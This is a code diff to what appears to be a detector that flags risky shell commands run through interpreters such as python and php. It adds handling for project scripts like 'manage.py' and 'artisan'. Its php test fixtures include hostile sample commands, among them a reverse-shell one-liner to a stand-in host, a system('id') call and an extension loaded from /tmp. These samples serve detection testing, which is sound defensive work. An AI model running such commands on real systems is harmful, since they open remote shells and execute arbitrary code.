@@ -2,6 +2,7 @@ import type { Call } from '../call.js';
 import { hasUnknown } from '../marks.js';
 import type { Program } from '../program.js';
 import { runContent, runFile } from '../script-file.js';
+import { programFor } from './index.js';
 import type { Arg } from '../word.js';
 
 interface InterpreterEntry {
@@ -45,10 +46,21 @@ const interpreter = (entry: InterpreterEntry): Program => ({
 function runOperand(call: Call, file: Arg | undefined, language: string, interactive: boolean): void {
   if (file && file.raw !== '-') {
     if (/^https?:\/\//.test(file.raw)) call.report('exec.remote-code', 'anything', `It runs code straight from ${file.text}.`, { durable: false });
-    else runFile(call, file, call.name, { language });
+    else {
+      runFile(call, file, call.name, { language });
+      followScript(call, file);
+    }
   } else if (call.stdin) runContent(call, call.stdin, { language });
   else if (interactive && !call.options.some((option) => /^--?(?:v|V|version|help|h)$/.test(option.name)))
     call.report('exec.interactive', 'anything', `It starts ${call.name} to take code that nobody has seen yet.`, { durable: false });
+}
+
+/** `python manage.py flush`, `php artisan db:wipe`: the script is a program that is known itself. */
+function followScript(call: Call, file: Arg): void {
+  const name = file.raw.slice(file.raw.lastIndexOf('/') + 1);
+  if (!programFor(name)?.inProject) return;
+  const at = call.args.indexOf(file);
+  if (at >= 0) call.run([call.literal(name), ...call.args.slice(at + 1)]);
 }
 
 /** Modules by name are the project's own; a path or a URL is a file that runs. */
@@ -198,8 +210,7 @@ const entries: readonly InterpreterEntry[] = [
       for (const setting of call.values('-d')) if (/auto_(?:pre|ap)pend_file|extension|disable_functions|open_basedir|allow_url_include|sendmail_path/.test(setting.text)) call.report('option.runs', 'anything', 'One of its settings loads other code.', { durable: false });
       for (const file of call.values('-f -F')) runFile(call, file, 'php', { language: 'php' });
       if (call.has('-a')) call.report('exec.interactive', 'anything', 'It starts php to take code that nobody has seen yet.', { durable: false });
-      if (call.operands[0]?.text === 'artisan') call.run(call.operands, { label: 'php' });
-      return call.has('-f -F -a -S -v -m -i -l -n') || call.operands[0]?.text === 'artisan';
+      return call.has('-f -F -a -S -v -m -i -l -n');
     },
     match: [`php -r 'system("id");'`, 'php -d extension=/tmp/x.so a.php', "php -r 'unlink(\"a\");'", 'php -a', "php -r '$s=fsockopen(\"h.example\",9);exec(\"/bin/sh -i <&3\");'"],
     not_match: ["php -r 'echo 1;'", 'php -l a.php', 'php vendor/bin/phpunit', 'php artisan test', 'php -S localhost:8000'],
